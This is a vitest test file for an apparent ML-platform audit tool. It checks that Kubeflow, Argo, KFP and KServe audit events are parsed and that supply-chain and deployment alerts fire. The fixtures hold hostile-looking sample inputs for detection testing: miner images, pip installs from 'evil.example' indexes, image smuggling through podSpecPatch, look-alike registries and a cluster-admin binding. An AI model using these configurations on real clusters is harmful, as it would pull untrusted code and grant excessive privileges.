import { describe, expect, it } from 'vitest';
import { replayEvents } from '../../../bridge/replay.js';
import { kubeflowConnector } from '../../../connectors/kubeflow/index.js';
import { normalizeKfp } from '../../../connectors/kubeflow/kfp/normalize.js';
import { RulesConfig } from '../../../core/rules/engine.js';
import { NormalizedEvent } from '../../../core/schema/index.js';
import { readFixtureJson } from '../../helpers/fixtures.js';
import { auditEvent, ctx } from './helpers.js';

const PINNED = 'gcr.io/proj/trainer@sha256:' + 'b'.repeat(64);
const one = (r: unknown, keepRaw = false) => {
  const out = kubeflowConnector.normalize!(r, ctx({ keepRaw }));
  expect(out.rejected).toEqual([]);
  expect(out.events).toHaveLength(1);
  return NormalizedEvent.parse(out.events[0]);
};
const alertsOf = (evs: NormalizedEvent[], rule: string) => replayEvents(evs, { rules: RulesConfig.parse({}) }).alerts.filter((a) => a.rule_id === rule);

/** A write by alice in her profile namespace (shape of the hunt's repro records). */
const write = (resource: string, apiGroup: string, verb: string, requestObject: unknown, over: Record<string, unknown> = {}) =>
  auditEvent({
    level: 'Request',
    verb,
    requestURI: `/apis/${apiGroup}/v1/namespaces/kubeflow-user-alice/${resource}`,
    user: { username: 'alice@example.com', groups: ['system:authenticated'] },
    objectRef: { resource, namespace: 'kubeflow-user-alice', name: 'x1', apiGroup, apiVersion: 'v1' },
    responseStatus: { metadata: {}, code: 201 },
    requestObject,
    ...over,
  });

describe('every image of a job reaches ml.job', () => {
  it('an Argo Workflow with a pinned and an unpinned template: images lists both, not pinned, image names the offender', () => {
    const ev = one(write('workflows', 'argoproj.io', 'create', { metadata: { name: 'wf-two', labels: { 'pipeline/runid': 'rid-2' } }, spec: { templates: [{ name: 'a', container: { image: PINNED } }, { name: 'b', container: { image: 'python:3.9' } }] } }));
    expect(ev.ml?.job).toMatchObject({ image: 'python:3.9', image_pinned: false, images: [PINNED, 'python:3.9'] });
    expect(alertsOf([ev], 'training.unverified_dependency')).toHaveLength(1);
  });

  it('a pod with a sidecar: the sidecar image is checked too; an all-pinned pod is pinned', () => {
    const pod = (side: string) => write('pods', '', 'create', { metadata: { name: 'p', labels: { 'pipeline/runid': 'rid-2' } }, spec: { initContainers: [{ name: 'init', image: PINNED }], containers: [{ name: 'main', image: PINNED }, { name: 'side', image: side }] } }, { objectRef: { resource: 'pods', namespace: 'kubeflow-user-alice', name: 'p', apiVersion: 'v1' } });
    const bad = one(pod('evil/miner:latest'));
    expect(bad.ml?.job).toMatchObject({ image: 'evil/miner:latest', image_pinned: false });
    expect(bad.ml?.job?.images).toContain('evil/miner:latest');
    const good = one(pod(PINNED));
    expect(good.ml?.job).toMatchObject({ image: PINNED, image_pinned: true, images: [PINNED] });
  });

  it('KFP REST: a multi-executor run lists every image and names the unpinned one', () => {
    const run = { ...readFixtureJson<Record<string, any>>('kubeflow', 'kfp-rest', 'run_completed.json'), pipeline_spec: { deploymentSpec: { executors: { a: { container: { image: PINNED } }, b: { container: { image: 'python:3.9' } } } } } };
    const out = normalizeKfp(run, ctx());
    const create = out.events.find((e) => e.action === 'pipeline_run.create')!;
    expect(create.ml?.job).toMatchObject({ image: 'python:3.9', image_pinned: false, images: [PINNED, 'python:3.9'] });
  });

  it('KFP REST: a run of a registered version gets the version’s images from what the poller listed', () => {
    const run = readFixtureJson<Record<string, any>>('kubeflow', 'kfp-rest', 'run_completed.json');
    const version = readFixtureJson<Record<string, any>>('kubeflow', 'kfp-rest', 'pipeline_version.json');
    const known = new Map([[version.pipeline_version_id as string, ['python:3.11']]]);
    const create = normalizeKfp(run, ctx({ meta: { version_images: known } })).events.find((e) => e.action === 'pipeline_run.create')!;
    expect(create.ml?.job).toMatchObject({ image: 'python:3.11', image_pinned: false, images: ['python:3.11'] });
    expect(create.details?.images).toEqual(['python:3.11']);
    // A recurring run of that version too.
    const rr = readFixtureJson<Record<string, any>>('kubeflow', 'kfp-rest', 'recurring_run.json');
    const ref = { pipeline_id: version.pipeline_id, pipeline_version_id: version.pipeline_version_id };
    const sched = normalizeKfp({ ...rr, pipeline_spec: undefined, pipeline_version_reference: ref }, ctx({ meta: { version_images: known } })).events.find((e) => e.action === 'recurring_run.create')!;
    expect(sched.ml?.job?.images).toEqual(['python:3.11']);
  });
});

describe('pod specs of training-operator jobs, Trainer TrainJobs and ScheduledWorkflows', () => {
  it('PyTorchJob replica templates, TrainJob trainer image and ScheduledWorkflow templates carry their images', () => {
    const pt = one(write('pytorchjobs', 'kubeflow.org', 'create', { spec: { pytorchReplicaSpecs: { Master: { replicas: 1, template: { spec: { containers: [{ name: 'pytorch', image: PINNED }] } } }, Worker: { replicas: 2, template: { spec: { containers: [{ name: 'pytorch', image: 'evil/miner:latest', securityContext: { privileged: true } }] } } } } } }));
    expect(pt.action).toBe('training_job.create');
    expect(pt.ml?.job).toMatchObject({ image: 'evil/miner:latest', image_pinned: false, images: [PINNED, 'evil/miner:latest'] });
    expect(pt.details).toMatchObject({ privileged: true });
    const tj = one(write('trainjobs', 'trainer.kubeflow.org', 'create', { spec: { runtimeRef: { name: 'torch-distributed' }, trainer: { image: 'docker.io/me/train:dev', numNodes: 2 } } }));
    expect(tj.ml?.job).toMatchObject({ image: 'docker.io/me/train:dev', images: ['docker.io/me/train:dev'] });
    const rt = one(write('clustertrainingruntimes', 'trainer.kubeflow.org', 'create', { spec: { template: { spec: { replicatedJobs: [{ name: 'node', template: { spec: { template: { spec: { containers: [{ name: 'node', image: 'pytorch/pytorch:2.5' }] } } } } }] } } } }));
    expect(rt.details?.images).toEqual(['pytorch/pytorch:2.5']);
    const swf = one(write('scheduledworkflows', 'kubeflow.org', 'create', { kind: 'ScheduledWorkflow', spec: { enabled: true, trigger: { cronSchedule: { cron: '0 2 * * *' } }, workflow: { spec: { templates: [{ name: 't', container: { image: 'python:3.9' } }] } } } }, { user: { username: 'system:serviceaccount:kubeflow:ml-pipeline' } }));
    expect([swf.action, swf.ml?.job?.images]).toEqual(['recurring_run.create', ['python:3.9']]);
  });
});

/**
 * A KFP v2 run's Argo Workflow as the KFP backend's argocompiler writes it (backend/src/v2/compiler/argocompiler,
 * testdata/hello_world.yaml): the templates run KFP's driver, launcher and a placeholder image; each step's own
 * container spec is JSON in a workflow parameter `implementations-<hash>` that the driver task passes on (KFP 2.1+),
 * or in the driver task's `container` argument itself (KFP 2.0).
 */
function kfpV2Workflow(step: { image: string; command: string[]; args?: string[]; env?: unknown[] }, inline = false): Record<string, unknown> {
  const HASH = '203fce8adabe0cfa7da54b9d3ff79c772136c926974659b51c378727c7ccdfb7';
  const container = JSON.stringify({ args: step.args ?? ['--executor_input', '{{$}}', '--function_to_execute', 'train'], command: step.command, image: step.image, ...(step.env ? { env: step.env } : {}) });
  const driverArgs = ['--type', 'CONTAINER', '--component', '{{inputs.parameters.component}}', '--task', '{{inputs.parameters.task}}', '--container', '{{inputs.parameters.container}}', '--pod_spec_patch_path', '{{outputs.parameters.pod-spec-patch.path}}'];
  return {
    apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow',
    metadata: { generateName: 'train-pipeline-', labels: { 'pipeline/runid': '5b3c0a7e-1f2d-4c1a-9e0b-2d7c6f1a8e33', 'pipelines.kubeflow.org/v2_component': 'true' } },
    spec: {
      arguments: { parameters: [
        { name: `components-${HASH}`, value: JSON.stringify({ executorLabel: 'exec-train' }) },
        ...(inline ? [] : [{ name: `implementations-${HASH}`, value: container }]),
        { name: 'components-root', value: JSON.stringify({ dag: { tasks: { train: { componentRef: { name: 'comp-train' }, taskInfo: { name: 'train' } } } } }) },
      ] },
      entrypoint: 'entrypoint', serviceAccountName: 'pipeline-runner',
      podMetadata: { labels: { 'pipelines.kubeflow.org/v2_component': 'true' } },
      templates: [
        { name: 'system-container-driver', container: { image: 'ghcr.io/kubeflow/kfp-driver:2.5.0', command: ['driver'], args: driverArgs }, inputs: { parameters: [{ name: 'component' }, { name: 'task' }, { name: 'container' }, { name: 'parent-dag-id' }] }, outputs: { parameters: [{ name: 'pod-spec-patch', valueFrom: { default: '', path: '/tmp/outputs/pod-spec-patch' } }] } },
        { name: 'system-container-executor', dag: { tasks: [{ name: 'executor', template: 'system-container-impl', arguments: { parameters: [{ name: 'pod-spec-patch', value: '{{inputs.parameters.pod-spec-patch}}' }] } }] }, inputs: { parameters: [{ name: 'pod-spec-patch' }] } },
        {
          name: 'system-container-impl', podSpecPatch: '{{inputs.parameters.pod-spec-patch}}', inputs: { parameters: [{ name: 'pod-spec-patch' }] },
          container: { image: 'gcr.io/ml-pipeline/should-be-overridden-during-runtime', command: ['should-be-overridden-during-runtime'], volumeMounts: [{ mountPath: '/kfp-launcher', name: 'kfp-launcher' }] },
          initContainers: [{ name: 'kfp-launcher', image: 'ghcr.io/kubeflow/kfp-launcher:2.5.0', command: ['launcher-v2'], args: ['--copy', '/kfp-launcher/launch'] }],
          volumes: [{ name: 'kfp-launcher', emptyDir: {} }],
        },
        {
          name: 'root', inputs: { parameters: [{ name: 'parent-dag-id' }] },
          dag: { tasks: [
            { name: 'train-driver', template: 'system-container-driver', arguments: { parameters: [
              { name: 'component', value: `{{workflow.parameters.components-${HASH}}}` },
              { name: 'task', value: JSON.stringify({ componentRef: { name: 'comp-train' }, taskInfo: { name: 'train' } }) },
              { name: 'container', value: inline ? container : `{{workflow.parameters.implementations-${HASH}}}` },
              { name: 'parent-dag-id', value: '{{inputs.parameters.parent-dag-id}}' },
            ] } },
            { name: 'train', template: 'system-container-executor', depends: 'train-driver.Succeeded', arguments: { parameters: [{ name: 'pod-spec-patch', value: '{{tasks.train-driver.outputs.parameters.pod-spec-patch}}' }] } },
          ] },
        },
      ],
    },
  };
}

describe('KFP v2 Argo Workflows: the steps\' container specs the driver is given', () => {
  /** The Workflow as the KFP API server creates it in the run's namespace. */
  const created = (wf: Record<string, unknown>) => one(write('workflows', 'argoproj.io', 'create', wf, { user: { username: 'system:serviceaccount:kubeflow:ml-pipeline', groups: ['system:serviceaccounts'] } }));
  const pipInstall = ['sh', '-c', 'python3 -m pip install --quiet --index-url https://pypi.evil.example/simple torch==2.5.1 && python3 -m kfp.dsl.executor_main "$@"', '--'];

  it('a step\'s image and pip index (implementations-<hash>) are judged; KFP\'s placeholder image is not listed', () => {
    const ev = created(kfpV2Workflow({ image: 'docker.io/evil/trainer:latest', command: pipInstall }));
    expect(ev.ml?.job?.images).toEqual(['ghcr.io/kubeflow/kfp-driver:2.5.0', 'ghcr.io/kubeflow/kfp-launcher:2.5.0', 'docker.io/evil/trainer:latest']);
    expect(ev.ml?.job).toMatchObject({ image: 'ghcr.io/kubeflow/kfp-driver:2.5.0', image_pinned: false, package_sources: ['https://pypi.evil.example/simple'] });
    const fired = alertsOf([ev], 'training.unverified_dependency');
    expect(fired).toHaveLength(1);
    // KFP's own driver and launcher are trusted by default: only the step's offences are named.
    expect(fired[0]!.summary).toContain('image docker.io/evil/trainer:latest is not pinned by digest');
    expect(fired[0]!.summary).toContain('https://pypi.evil.example/simple');
    expect(fired[0]!.summary).not.toContain('kfp-driver');
    expect(fired[0]!.summary).not.toContain('should-be-overridden');
  });

  it('a step on a pinned image from an allowed registry, installing from PyPI, raises nothing (KFP\'s system templates are no finding)', () => {
    const ev = created(kfpV2Workflow({ image: PINNED, command: ['sh', '-c', 'python3 -m pip install kfp==2.9.0 && python3 -m kfp.dsl.executor_main "$@"', '--'] }));
    expect(ev.ml?.job?.images).toContain(PINNED);
    expect(alertsOf([ev], 'training.unverified_dependency')).toEqual([]);
  });

  it('KFP 2.0 writes the container spec into the driver task\'s argument: read there too, env index variables included', () => {
    const ev = created(kfpV2Workflow({ image: 'python:3.9', command: ['sh', '-c', 'pip install pandas && python3 main.py'], env: [{ name: 'PIP_INDEX_URL', value: 'https://mirror.evil.example/simple' }] }, true));
    expect(ev.ml?.job?.images).toContain('python:3.9');
    expect(ev.ml?.job?.package_sources).toEqual(['https://mirror.evil.example/simple']);
    expect(alertsOf([ev], 'training.unverified_dependency')).toHaveLength(1);
  });

  it('a KFP v2 recurring run (ScheduledWorkflow) carries its steps\' images the same way', () => {
    const wf = kfpV2Workflow({ image: 'docker.io/evil/trainer:latest', command: ['python3', 'train.py'] });
    const swf = created({ apiVersion: 'kubeflow.org/v1beta1', kind: 'ScheduledWorkflow', spec: { enabled: true, trigger: { cronSchedule: { cron: '0 2 * * *' } }, workflow: { spec: wf.spec } } });
    expect(swf.ml?.job?.images).toContain('docker.io/evil/trainer:latest');
  });

  it('without the driver template a workflow parameter is only a parameter; a podSpecPatch written out is what runs, a placeholder it replaces is not', () => {
    const plain = one(write('workflows', 'argoproj.io', 'create', { spec: { arguments: { parameters: [{ name: 'implementations-x', value: JSON.stringify({ image: 'docker.io/evil/x:1' }) }] }, templates: [{ name: 't', container: { image: PINNED } }] } }));
    expect(plain.ml?.job?.images).toEqual([PINNED]);
    const patched = one(write('workflows', 'argoproj.io', 'create', { spec: { templates: [{ name: 't', podSpecPatch: JSON.stringify({ containers: [{ name: 'main', image: 'docker.io/evil/x:1' }] }), container: { image: 'gcr.io/ml-pipeline/should-be-overridden-during-runtime' } }] } }));
    expect(patched.ml?.job?.images).toEqual(['docker.io/evil/x:1']);
    const yamlPatch = one(write('workflows', 'argoproj.io', 'create', { spec: { templates: [{ name: 't', podSpecPatch: 'containers:\n  - name: main\n    image: docker.io/evil/y:2\n', container: { image: PINNED } }] } }));
    expect(yamlPatch.ml?.job?.images).toEqual([PINNED, 'docker.io/evil/y:2']);
    // Outside a patched template the same name is an image like any other.
    const unpatched = one(write('workflows', 'argoproj.io', 'create', { spec: { templates: [{ name: 't', container: { image: 'gcr.io/ml-pipeline/should-be-overridden-during-runtime' } }] } }));
    expect(unpatched.ml?.job?.images).toEqual(['gcr.io/ml-pipeline/should-be-overridden-during-runtime']);
  });
});

describe('Argo podSpecPatch filled from a workflow parameter (verify29b)', () => {
  const PH = 'gcr.io/ml-pipeline/should-be-overridden-during-runtime';
  const evilPatch = JSON.stringify({ containers: [{ name: 'main', image: 'docker.io/evil/x:1' }] });
  const wf = (templates: unknown[], extra: Record<string, unknown> = {}) => one(write('workflows', 'argoproj.io', 'create', { spec: { arguments: { parameters: [{ name: 'p', value: evilPatch }] }, templates, ...extra } }));

  it("a hand-written Workflow naming KFP's placeholder over a patch from a workflow parameter: the parameter's image is judged (was: no image, no alert)", () => {
    const ev = wf([{ name: 't', podSpecPatch: '{{workflow.parameters.p}}', container: { image: PH } }]);
    expect(ev.ml?.job?.images).toEqual(['docker.io/evil/x:1']);
    expect(alertsOf([ev], 'training.unverified_dependency')).toHaveLength(1);
  });

  it('a pinned template image replaced by a patch from a workflow parameter: the patch image is judged (was: only the pinned one, no alert)', () => {
    const ev = wf([{ name: 't', podSpecPatch: '{{ workflow.parameters.p }}', container: { image: PINNED } }]);
    expect(ev.ml?.job?.images).toEqual([PINNED, 'docker.io/evil/x:1']);
    expect(alertsOf([ev], 'training.unverified_dependency')).toHaveLength(1);
  });

  it("the Workflow-level podSpecPatch (merged into every pod) is read too", () => {
    const ev = wf([{ name: 't', container: { image: PINNED } }], { podSpecPatch: '{{workflow.parameters.p}}' });
    expect(ev.ml?.job?.images).toEqual([PINNED, 'docker.io/evil/x:1']);
    expect(alertsOf([ev], 'training.unverified_dependency')).toHaveLength(1);
  });

  it("a patch from a template input mltrail cannot see keeps the placeholder judged, unless it is KFP v2's executor fed by its driver", () => {
    const unknown = wf([{ name: 't', podSpecPatch: '{{inputs.parameters.p}}', container: { image: PH } }]);
    expect(unknown.ml?.job?.images).toEqual([PH]);
    expect(alertsOf([unknown], 'training.unverified_dependency')).toHaveLength(1);
    // In a KFP v2 Workflow, a template other than the executor patched from an input keeps it as well.
    const kfp = kfpV2Workflow({ image: PINNED, command: ['python3', 'train.py'] }) as { spec: { templates: unknown[] } };
    kfp.spec.templates.push({ name: 'extra', podSpecPatch: '{{inputs.parameters.x}}', container: { image: PH } });
    const ev = one(write('workflows', 'argoproj.io', 'create', kfp));
    expect(ev.ml?.job?.images).toEqual(['ghcr.io/kubeflow/kfp-driver:2.5.0', 'ghcr.io/kubeflow/kfp-launcher:2.5.0', PH, PINNED]);
    expect(alertsOf([ev], 'training.unverified_dependency')).toHaveLength(1);
  });
});

describe("KFP v2 driver and launcher are trusted by repository, never by a look-alike (verify29b)", () => {
  const step = (image: string, command = ['python3', 'train.py']) => one(write('workflows', 'argoproj.io', 'create', kfpV2Workflow({ image, command })));
  it('a look-alike repository or a path under the driver\'s is judged; a step on the driver image still has its pip index judged', () => {
    for (const image of ['ghcr.io/kubeflow/kfp-driver-evil:2.5.0', 'ghcr.io/kubeflow/kfp-driver/evil:1', 'ghcr.io/kubeflow2/kfp-driver:1', 'evil.example/ghcr.io/kubeflow/kfp-driver:1']) {
      expect(alertsOf([step(image)], 'training.unverified_dependency').map((a) => a.summary).join()).toContain(image);
    }
    // Any tag of KFP's own repository is trusted, as every trusted_images entry is (only Kubeflow publishes there).
    expect(alertsOf([step('ghcr.io/kubeflow/kfp-driver:evil')], 'training.unverified_dependency')).toEqual([]);
    const pip = alertsOf([step('ghcr.io/kubeflow/kfp-driver:2.5.0', ['sh', '-c', 'pip install --index-url https://evil.example/simple x'])], 'training.unverified_dependency');
    expect(pip).toHaveLength(1);
    expect(pip[0]!.summary).toContain('https://evil.example/simple');
  });

  it('a malformed or huge implementations-<hash> parameter: the record is kept, no throw, a huge one is still read', () => {
    const bad = step('x');
    expect(bad.ml?.job?.images).toContain('x');
    const wfBad = kfpV2Workflow({ image: PINNED, command: ['python3'] }) as { spec: { arguments: { parameters: Array<{ name: string; value: string }> } } };
    for (const p of wfBad.spec.arguments.parameters) if (p.name.startsWith('implementations-')) p.value = '{"image":"docker.io/evil/x:1","command":[';
    const ev = one(write('workflows', 'argoproj.io', 'create', wfBad));
    expect(ev.ml?.job?.images).toEqual(['ghcr.io/kubeflow/kfp-driver:2.5.0', 'ghcr.io/kubeflow/kfp-launcher:2.5.0']);
    const huge = one(write('workflows', 'argoproj.io', 'create', kfpV2Workflow({ image: 'docker.io/evil/x:1', command: ['sh', '-c', 'pip install --index-url https://evil.example/simple x; ' + 'echo a; '.repeat(100_000)] })));
    expect(huge.ml?.job?.images).toContain('docker.io/evil/x:1');
    expect(huge.ml?.job?.package_sources).toEqual(['https://evil.example/simple']);
  });
});

describe('KServe storageUri reaches ml.deployment.model_uri', () => {
  const isvc = (verb: string, requestObject: unknown, over: Record<string, unknown> = {}) =>
    auditEvent({
      level: 'Request',
      verb,
      requestURI: '/apis/serving.kserve.io/v1beta1/namespaces/kubeflow-user-alice/inferenceservices/fraud',
      user: { username: 'alice@example.com', groups: ['system:authenticated'] },
      objectRef: { resource: 'inferenceservices', namespace: 'kubeflow-user-alice', name: 'fraud', apiGroup: 'serving.kserve.io', apiVersion: 'v1beta1' },
      responseStatus: { metadata: {}, code: 200 },
      requestObject,
      ...over,
    });

  it('create, merge patch, framework predictor and JSON patch all name the model; a label patch names none', () => {
    expect(one(isvc('create', { spec: { predictor: { model: { modelFormat: { name: 'sklearn' }, storageUri: 's3://models/fraud/1' } } } })).ml?.deployment).toEqual({ endpoint: 'kubeflow-user-alice/fraud', model_uri: 's3://models/fraud/1' });
    expect(one(isvc('patch', { spec: { predictor: { sklearn: { storageUri: 'gs://m/2' } } } })).ml?.deployment?.model_uri).toBe('gs://m/2');
    const jp = one(isvc('patch', [{ op: 'replace', path: '/spec/predictor/model/storageUri', value: 's3://evil/jsonpatch' }]));
    expect([jp.action, jp.ml?.deployment?.model_uri]).toEqual(['endpoint.update', 's3://evil/jsonpatch']);
    expect(one(isvc('patch', [{ op: 'add', path: '/spec/predictor', value: { tensorflow: { storageUri: 'gs://m/3' } } }])).ml?.deployment?.model_uri).toBe('gs://m/3');
    expect(one(isvc('patch', [{ op: 'remove', path: '/spec/predictor/model/storageUri' }])).ml?.deployment).toEqual({ endpoint: 'kubeflow-user-alice/fraud' });
    expect(one(isvc('patch', { metadata: { labels: { team: 'a' } } })).ml?.deployment).toEqual({ endpoint: 'kubeflow-user-alice/fraud' });
    // copy/move: from a value the patch wrote, from the logged response, or named when neither is known.
    const stash = { op: 'add', path: '/metadata/annotations/x', value: 's3://evil/copied' };
    expect(one(isvc('patch', [stash, { op: 'copy', from: '/metadata/annotations/x', path: '/spec/predictor/model/storageUri' }])).ml?.deployment?.model_uri).toBe('s3://evil/copied');
    const move = [{ op: 'move', from: '/metadata/annotations/y', path: '/spec/predictor/model/storageUri' }];
    expect(one(isvc('patch', move)).ml?.deployment).toEqual({ endpoint: 'kubeflow-user-alice/fraud', model_uri_copied_from: '/metadata/annotations/y' });
    expect(one(isvc('patch', move, { level: 'RequestResponse', responseObject: { spec: { predictor: { model: { storageUri: 's3://evil/moved' } } } } })).ml?.deployment).toEqual({ endpoint: 'kubeflow-user-alice/fraud', model_uri: 's3://evil/moved' });
    // KFServing v1alpha2 (serving.kubeflow.org): `spec.default.predictor.<framework>`.
    const old = one(isvc('create', { spec: { default: { predictor: { sklearn: { storageUri: 's3://evil/kfserving' } } } } }, { objectRef: { resource: 'inferenceservices', namespace: 'kubeflow-user-alice', name: 'old', apiGroup: 'serving.kubeflow.org', apiVersion: 'v1alpha2' } }));
    expect([old.action, old.stage, old.ml?.deployment?.model_uri]).toEqual(['endpoint.create', 'serving', 's3://evil/kfserving']);
  });

  it('registry.unapproved_deployment fires for a JSON patch and without the raw record', () => {
    const jp = one(isvc('patch', [{ op: 'replace', path: '/spec/predictor/model/storageUri', value: 's3://evil/x' }]), false);
    expect(jp.raw).toBeUndefined();
    expect(alertsOf([jp], 'registry.unapproved_deployment')).toHaveLength(1);
    const created = one(isvc('create', { spec: { predictor: { model: { storageUri: 's3://evil/y' } } } }), false);
    expect(alertsOf([created], 'registry.unapproved_deployment')).toHaveLength(1);
  });

  it('controller writes: the status subresource and a finalizer update are status changes, not deployments', () => {
    const controller = { username: 'system:serviceaccount:kubeflow:kserve-controller-manager' };
    const status = one(isvc('update', { kind: 'InferenceService', metadata: { name: 'fraud' }, spec: { predictor: { model: { storageUri: 's3://evil/status' } } } }, {
      user: controller,
      requestURI: '/apis/serving.kserve.io/v1beta1/namespaces/kubeflow-user-alice/inferenceservices/fraud/status',
      objectRef: { resource: 'inferenceservices', namespace: 'kubeflow-user-alice', name: 'fraud', apiGroup: 'serving.kserve.io', apiVersion: 'v1beta1', subresource: 'status' },
    }), true);
    expect([status.action, status.ml?.deployment]).toEqual(['endpoint.status_change', { endpoint: 'kubeflow-user-alice/fraud' }]);
    const body = (gen: number) => ({ metadata: { name: 'fraud', generation: gen, finalizers: ['inferenceservice.finalizers'] }, spec: { predictor: { model: { storageUri: 's3://models/fraud/1' } } } });
    const fin = one(isvc('update', body(3), { user: controller, level: 'RequestResponse', responseObject: body(3) }), true);
    expect([fin.action, fin.ml?.deployment]).toEqual(['endpoint.status_change', { endpoint: 'kubeflow-user-alice/fraud' }]);
    expect(alertsOf([status, fin], 'registry.unapproved_deployment')).toEqual([]);
    // The controller changing the spec (generation bumped) is still a deployment.
    const spec = one(isvc('update', body(3), { user: controller, level: 'RequestResponse', responseObject: body(4) }));
    expect([spec.action, spec.ml?.deployment?.model_uri]).toEqual(['endpoint.update', 's3://models/fraud/1']);
    // A user's update is a deployment whatever the generation says.
    expect(one(isvc('update', body(3))).action).toBe('endpoint.update');
  });
});

describe('dry-run requests are marked', () => {
  it('?dryRun=All sets details.dry_run; a real request has none', () => {
    const dry = one(write('clusterrolebindings', 'rbac.authorization.k8s.io', 'create', { kind: 'ClusterRoleBinding', metadata: { name: 'runner-admin' }, roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'pipeline-runner', namespace: 'kubeflow' }] }, { requestURI: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?dryRun=All' }));
    expect(dry.details).toMatchObject({ dry_run: true, grants_cluster_admin: true });
    const wf = one(write('workflows', 'argoproj.io', 'create', { spec: { templates: [{ name: 't', container: { image: 'python:3.9' } }] } }, { requestURI: '/apis/argoproj.io/v1alpha1/namespaces/kubeflow-user-alice/workflows?dryRun=All&fieldManager=kubectl-client-side-apply' }));
    expect(wf.details?.dry_run).toBe(true);
    expect(one(write('workflows', 'argoproj.io', 'create', { spec: {} })).details?.dry_run).toBeUndefined();
  });
});

describe('KFP SubjectAccessReviews are the user’s action only when the KFP API server filed them', () => {
  const sar = (username: string) =>
    auditEvent({
      level: 'RequestResponse',
      verb: 'create',
      requestURI: '/apis/authorization.k8s.io/v1/subjectaccessreviews',
      user: { username, groups: ['system:serviceaccounts'] },
      objectRef: { resource: 'subjectaccessreviews', apiGroup: 'authorization.k8s.io', apiVersion: 'v1' },
      responseStatus: { metadata: {}, code: 201 },
      requestObject: { kind: 'SubjectAccessReview', apiVersion: 'authorization.k8s.io/v1', spec: { user: 'alice@example.com', groups: [], resourceAttributes: { namespace: 'kubeflow-user-alice', verb: 'terminate', group: 'pipelines.kubeflow.org', version: 'v1beta1', resource: 'runs', name: 'run-1' } } },
      responseObject: { kind: 'SubjectAccessReview', apiVersion: 'authorization.k8s.io/v1', spec: {}, status: { allowed: true, reason: 'RBAC: allowed by RoleBinding' } },
    });

  it('by ml-pipeline in kubeflow: alice stops the run, chain [alice, ml-pipeline]', () => {
    const ev = one(sar('system:serviceaccount:kubeflow:ml-pipeline'));
    expect(ev.action).toBe('pipeline_run.stop');
    expect(ev.actor).toMatchObject({ id: 'alice@example.com', chain: ['alice@example.com', 'system:serviceaccount:kubeflow:ml-pipeline'] });
  });

  it('by another account (even one named ml-pipeline elsewhere): the requester is the actor, no run action', () => {
    for (const who of ['system:serviceaccount:kubeflow-user-bob:default-editor', 'system:serviceaccount:kubeflow-user-bob:ml-pipeline']) {
      const ev = one(sar(who));
      expect(ev.action).not.toBe('pipeline_run.stop');
      expect(ev.actor?.id).toBe(who);
      expect(ev.details?.kfp_authorization).toMatchObject({ user: 'alice@example.com', checked_by: who });
    }
  });
});
